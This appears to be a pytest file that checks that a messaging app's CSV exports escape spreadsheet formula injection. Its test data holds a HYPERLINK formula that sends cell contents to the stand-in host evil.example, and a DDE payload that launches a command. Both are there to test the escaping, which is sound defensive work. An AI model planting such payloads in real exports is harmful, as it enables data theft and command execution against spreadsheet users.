"""CSV exports a spreadsheet opens are formula-escaped by one helper (issue 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import sqlalchemy as sa

from parley.services.statistics import safe_cell
from parley.store.tables import campaign_recipients
from tests.support.app import ALICE, in_process

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'


@pytest.mark.parametrize(
    ("given", "written"),
    [
        pytest.param(FORMULA, "'" + FORMULA, id="formula"),
        pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="dde"),
        pytest.param("@SUM(1)", "'@SUM(1)", id="at"),
        pytest.param("-2+3", "'-2+3", id="minus"),
        pytest.param("+15557654321", "+15557654321", id="phone-number-unchanged"),
        pytest.param("Carrier said no", "Carrier said no", id="text-unchanged"),
        pytest.param(None, "", id="none"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_escaped(given: str | None, written: str) -> None:
    assert safe_cell(given) == written


async def test_the_campaign_recipients_export_escapes_a_carriers_formula(tmp_path: Path) -> None:
    async with in_process(tmp_path) as app, app.client(ALICE) as alice:
        made = await alice.post("/api/v2/campaigns", json={"name": "C", "sender": "+15551230001", "message": "Hi"})
        cid = made.json()["id"]
        upload = await alice.post(
            f"/api/v2/campaigns/{cid}/recipients", files={"file": ("r.csv", b"number\n+15557654321\n")}
        )
        assert upload.status_code == 200
        async with app.parley.db.write() as conn:  # what a carrier's (or a CSV's) reason may say
            await conn.execute(sa.update(campaign_recipients).values(reason=FORMULA))
        export = await alice.get(f"/api/v2/campaigns/{cid}/recipients.csv")
    [header, row] = list(csv.reader(io.StringIO(export.text)))
    assert header == ["number", "state", "status", "reason", "line"]
    assert row[0] == "+15557654321"
    assert row[3] == "'" + FORMULA
